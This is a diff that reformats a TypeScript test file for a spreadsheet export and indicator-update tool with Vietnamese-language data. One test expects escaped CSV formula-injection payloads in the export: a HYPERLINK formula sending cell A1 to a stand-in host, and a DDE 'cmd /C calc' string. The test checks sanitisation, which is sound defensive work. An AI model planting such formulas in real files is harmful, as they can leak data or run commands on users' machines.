@@ -88,7 +88,13 @@ describe("files out", () => {
     const exported = await run("export", at("so.xlsx"), "--out-dir", at("gui"));
     expect(exported.code).toBe(0);
     const names = readdirSync(at("gui"));
-    const csv = readFileSync(join(at("gui"), names.find((n) => n.endsWith(".csv"))!), "utf8");
+    const csv = readFileSync(
+      join(
+        at("gui"),
+        names.find((n) => n.endsWith(".csv"))!,
+      ),
+      "utf8",
+    );
     expect(csv).toContain(`"'=HYPERLINK(""http://x/?""&A1;""Bấm"")"`);
     expect(csv).toContain("'+cmd|' /C calc'!A0");
     expect(csv).toContain("'@SUM(1+1)");
@@ -193,7 +199,13 @@ describe("chitieu update", () => {
     expect(summary.added).toEqual(["C.1"]);
     expect(summary.removed).toEqual(["C.23"]);
     expect(summary.keptAside).toEqual([{ from: "C.23", to: "C.23 (cũ)" }]);
-    expect(summary.renumbered).toEqual(expect.arrayContaining([{ from: "C.1", to: "C.2" }, { from: "C.2", to: "C.3" }, { from: "C.6", to: "C.7" }]));
+    expect(summary.renumbered).toEqual(
+      expect.arrayContaining([
+        { from: "C.1", to: "C.2" },
+        { from: "C.2", to: "C.3" },
+        { from: "C.6", to: "C.7" },
+      ]),
+    );
     expect(summary.doubtful).toEqual([]);
     expect(readFileSync(at("so.xlsx")).equals(old)).toBe(true);
     const after = await report(at("so-moi.xlsx"));
@@ -234,7 +246,9 @@ describe("chitieu update", () => {
     writeFileSync(at("phu-luc-moi.txt"), thongNhat.replace("6.\tTỷ lệ hồ sơ thủ tục hành chính xử lý trực tuyến.", "6.\tTỷ lệ hồ sơ thủ tục hành chính được giải quyết trước hạn và đúng hạn."));
     const r = await run("update", at("so.xlsx"), "--plan", at("phu-luc-moi.txt"), "--out", at("so-moi.xlsx"));
     expect(r.code).toBe(0);
-    expect(r.out).toMatch(/Chỉ tiêu cần người xác nhận — C\.6 "Tỷ lệ hồ sơ thủ tục hành chính xử lý trực tuyến\." và C\.6 "Tỷ lệ hồ sơ thủ tục hành chính được giải quyết trước hạn và đúng hạn\." \(cách diễn đạt chỉ giống \d+%\): để riêng, số liệu cũ giữ ở dòng cũ, dòng mới để trống\./);
+    expect(r.out).toMatch(
+      /Chỉ tiêu cần người xác nhận — C\.6 "Tỷ lệ hồ sơ thủ tục hành chính xử lý trực tuyến\." và C\.6 "Tỷ lệ hồ sơ thủ tục hành chính được giải quyết trước hạn và đúng hạn\." \(cách diễn đạt chỉ giống \d+%\): để riêng, số liệu cũ giữ ở dòng cũ, dòng mới để trống\./,
+    );
     const after = await report(at("so-moi.xlsx"));
     expect(entryOf(after, "C.6 (cũ)")).toMatchObject({ periods: [null, 0.96, null, null], evidence: "Không hợp lệ" });
     expect(entryOf(after, "C.6")!.periods).toEqual([null, null, null, null]);
